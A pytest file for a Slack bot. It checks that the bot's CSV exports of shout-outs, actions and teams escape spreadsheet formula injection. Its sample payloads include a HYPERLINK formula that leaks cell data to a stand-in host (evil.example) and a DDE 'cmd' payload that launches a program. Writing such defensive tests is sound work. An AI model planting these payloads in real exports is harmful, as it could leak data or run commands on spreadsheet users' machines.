"""CSV injection through the export: words anyone may type (a shout-out, a team action, a key message) that a
spreadsheet would run as a formula reach `python -m bot export` and `python -m bot teams export` as text."""

from __future__ import annotations

import csv
from datetime import date
from pathlib import Path
from typing import Any

import pytest

from bot.platform.timesource import ManualTime
from emulator import SlackEmulator
from tests.e2e.action_steps import action_values, click_take_on, first_digest
from tests.e2e.conftest import ALICE, BOB, CHAMPION
from tests.e2e.test_teams import run
from tests.support.bot import BotUnderTest

LINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'
ATTACKS = [LINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "＝1+1"]


@pytest.fixture
def digest(bot: BotUnderTest, slack: SlackEmulator, clock: ManualTime) -> Any:
    return first_digest(bot, slack, clock)


def exported(monkeypatch: pytest.MonkeyPatch, slack: SlackEmulator, database_url: str, out: Path) -> Path:
    assert run(monkeypatch, slack, database_url, "export", "--out", str(out)) == 0
    return out


def cells(path: Path) -> list[str]:
    with path.open(newline="", encoding="utf-8") as file:
        return [value for row in csv.reader(file) for value in row]


def test_words_a_spreadsheet_would_run_are_exported_as_text(
    bot: BotUnderTest,
    slack: SlackEmulator,
    clock: ManualTime,
    digest: object,
    database_url: str,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    for words in ATTACKS:
        bot.command(ALICE, "/shoutout", f"<@{BOB}|bob> own-it {words}")
        assert "is saved" in slack.ephemerals(user=ALICE)[-1].text
    click_take_on(bot, CHAMPION, digest)
    saved = bot.submit(CHAMPION, slack.opened_views(CHAMPION)[-1], action_values(LINK, BOB, date(2026, 12, 4)))
    assert saved.json["response_action"] == "update"

    out = exported(monkeypatch, slack, database_url, tmp_path / "out")

    shoutouts, actions = cells(out / "shoutouts.csv"), cells(out / "actions.csv")
    assert [c for c in shoutouts if c.lstrip("'") in [w.strip() for w in ATTACKS]] == [f"'{w.strip()}" for w in ATTACKS]
    assert f"'{LINK}" in actions
    every = [c for name in sorted(out.iterdir()) for c in cells(name)]
    assert not [c for c in every if c.startswith(tuple("=+-@\t\r＝"))], "a cell a spreadsheet would run"


def test_the_teams_export_writes_ids_only(
    bot: BotUnderTest, slack: SlackEmulator, database_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    teams_file, exported_file = tmp_path / "teams.csv", tmp_path / "out.csv"
    teams_file.write_text(f"manager,member\n<@{ALICE}>,{BOB}\n=HYPERLINK(1),{CHAMPION}\n")
    assert run(monkeypatch, slack, database_url, "teams", "import", str(teams_file)) == 1
    teams_file.write_text(f"manager,member\n<@{ALICE}>,{BOB}\n")
    assert run(monkeypatch, slack, database_url, "teams", "import", str(teams_file)) == 0

    assert run(monkeypatch, slack, database_url, "teams", "export", str(exported_file)) == 0

    assert cells(exported_file) == ["manager", "member", ALICE, BOB]
